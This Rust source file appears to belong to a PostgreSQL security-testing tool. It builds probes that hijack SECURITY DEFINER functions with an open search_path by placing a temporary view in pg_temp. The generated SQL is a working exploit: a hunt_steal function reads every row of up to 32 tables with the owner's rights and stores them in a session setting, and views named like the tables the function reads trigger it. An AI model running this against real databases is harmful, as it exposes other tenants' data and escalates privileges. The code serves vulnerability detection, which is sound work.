//! Functions with their owner's rights that look for names where A can put something: a view of A's in pg_temp stands in
//! for a table that the function names, and what the view calls runs as the function's owner.

use std::collections::BTreeSet;

use super::probe::{Attack, Look, Oracle, Probe};
use super::state::State;
use crate::hunt::catalogue::roles::quote;
use crate::hunt::catalogue::{Catalogue, Function, Relation};
use crate::hunt::seeding::{Seeded, Tenant, literal, scalar};

/// Tables that the smuggled function tries to read.
const READ_TABLES: usize = 32;

/// Every function of a definer's with an open search_path that names tables is called beside such views.
pub(in crate::hunt) fn definers(catalogue: &Catalogue, seeded: &Seeded, state: &State) -> Vec<Probe> {
    if !catalogue.objects.may_create_temporary {
        return vec![];
    }
    let open = catalogue.functions.iter().filter(|function| function.definer && function.open_search_path);
    open.filter_map(|function| hijack(catalogue, seeded, state, function)).collect()
}

fn hijack(catalogue: &Catalogue, seeded: &Seeded, state: &State, function: &Function) -> Option<Probe> {
    // Of tables of one name in two schemas one can be stood in for.
    let mut names = BTreeSet::new();
    let tables = function.reads.iter().filter_map(|id| Some((*id, catalogue.relations.get(id)?)));
    let tables = tables.filter(|(_, table)| names.insert(unqualified(table)));
    let views: Vec<Attack> = tables.flat_map(|(id, table)| stand_in(seeded, id, table)).collect();
    if views.is_empty() {
        return None;
    }
    let value = |name: &String| format!("{}::{name}", literal(&scalar(name, None, Tenant::A, 0)));
    let arguments: Vec<String> = function.arguments.iter().map(value).collect();
    let mut probe = state.probe(&function.signature, "CREATE TEMP VIEW, then CALL", "F45");
    probe.title = "a temporary view stands in for a table, and what it calls has the rights of the function's owner";
    // A plan that was made before the view was there would still read the table.
    probe.prepare = vec!["DISCARD PLANS".to_owned()];
    probe.attack = vec![steal(catalogue, seeded).into()];
    probe.attack.extend(views);
    probe.attack.push(format!("SELECT {}({})", function.name, arguments.join(", ")).into());
    let look = Look::Query("SELECT current_setting('chaos.seen', true)".to_owned());
    probe.oracle = Oracle::Shown { looks: vec![look], foreign: state.foreign() };
    Some(probe)
}

/// A function of A's that remembers every row which whoever it runs as can read.
fn steal(catalogue: &Catalogue, seeded: &Seeded) -> String {
    let tables = catalogue.relations.iter().filter(|(id, _)| seeded.row(**id, Tenant::B).is_some());
    let tables: Vec<String> = tables.take(READ_TABLES).map(|(_, table)| literal(&table.qualified)).collect();
    format!(
        "CREATE FUNCTION pg_temp.hunt_steal() RETURNS boolean LANGUAGE plpgsql AS $steal$ \
         DECLARE name text; part text; BEGIN \
         FOREACH name IN ARRAY ARRAY[{}]::text[] LOOP BEGIN \
         EXECUTE 'SELECT string_agg(hunt_row::text, '' '') FROM ' || name || ' AS hunt_row' INTO part; \
         PERFORM set_config('chaos.seen', concat(current_setting('chaos.seen', true), part), true); \
         EXCEPTION WHEN OTHERS THEN NULL; END; END LOOP; RETURN true; END $steal$",
        tables.join(", ")
    )
}

/// A view with a table's name and columns and A's row in it. The OFFSET keeps the planner from deciding that the
/// function need not be asked.
fn stand_in(seeded: &Seeded, id: i64, table: &Relation) -> [Attack; 2] {
    let row = seeded.row(id, Tenant::A).unwrap_or_default();
    let columns: Vec<String> = table
        .columns
        .iter()
        .map(|column| {
            let value = row.iter().find(|(name, _)| *name == column.name);
            let value = value.map_or_else(|| "NULL".to_owned(), |(_, value)| literal(value));
            format!("{value}::{} AS {}", column.full_type, quote(&column.name))
        })
        .collect();
    let name = unqualified(table);
    [
        format!(
            "CREATE TEMP VIEW {name} AS SELECT {} FROM (SELECT pg_temp.hunt_steal() AS asked) AS s WHERE asked OFFSET 0",
            columns.join(", ")
        )
        .into(),
        format!("GRANT SELECT ON pg_temp.{name} TO PUBLIC").into(),
    ]
}

fn unqualified(table: &Relation) -> &str {
    table.name.rsplit_once('.').map_or(table.name.as_str(), |(_, name)| name)
}
